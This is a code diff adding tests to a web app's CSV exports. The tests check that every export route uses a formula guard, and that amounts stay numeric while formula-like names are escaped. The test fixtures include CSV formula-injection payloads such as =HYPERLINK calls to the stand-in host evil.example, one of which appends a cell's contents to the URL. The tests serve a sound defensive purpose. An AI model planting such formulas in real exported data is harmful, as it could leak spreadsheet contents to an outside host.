@@ -1,4 +1,7 @@
+import fs from 'node:fs'
+import path from 'node:path'
 import { type LoaderFunctionArgs } from '@remix-run/node'
+import { type Dashboard, dashboardTableRows } from '~/domain/dashboard/dashboard.server'
 import { createAccount, createUser } from '#tests/fixtures/factories'
 import { loader as accountsCsv } from '~/routes/admin.accounts[.]csv'
 import { loader as funnelCsv } from '~/routes/admin.campaigns.funnel[.]csv'
@@ -49,6 +52,42 @@ describe('CSV exports', () => {
       `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`,
       `"'@SUM(A1:A2)"`,
     ])
+  })
+})
+
+describe('every CSV export', () => {
+  it('is written through csvResponse, so every cell goes through the formula guard', () => {
+    const routes = fs.readdirSync(path.resolve('app/routes')).filter((f) => /csv\]?\.tsx$/.test(f))
+    expect(routes.length).toBeGreaterThanOrEqual(5)
+    for (const route of routes) {
+      const source = fs.readFileSync(path.resolve('app/routes', route), 'utf8')
+      expect([route, source.includes('csvResponse(')]).toEqual([route, true])
+    }
+    // The only other writer of CSV is the import templates, through csvLine.
+    const writers = fs
+      .readdirSync(path.resolve('app/routes'))
+      .filter((f) =>
+        fs.readFileSync(path.resolve('app/routes', f), 'utf8').includes(`'text/csv; charset`),
+      )
+    expect(writers).toEqual(['admin.imports.template.$file.tsx'])
+  })
+
+  it('keeps money, negative amounts included, as numbers, and a rep named as a formula as text', async () => {
+    const dashboard = {
+      revenueByRep: [
+        { rep: '=HYPERLINK("http://evil.example","x")', online: -1250, offline: 123456 },
+        { rep: 'Ana, -Sul', online: 0, offline: -123456 },
+      ],
+    } as unknown as Dashboard
+    const text = await csvResponse('reps.csv', dashboardTableRows(dashboard, 'reps')).text()
+    expect(text).toBe(
+      [
+        'representante;online_R$;importado_R$',
+        `"'=HYPERLINK(""http://evil.example"",""x"")";-12,50;1234,56`,
+        '"Ana, -Sul";0,00;-1234,56',
+        '',
+      ].join('\r\n'),
+    )
   })
 })
 
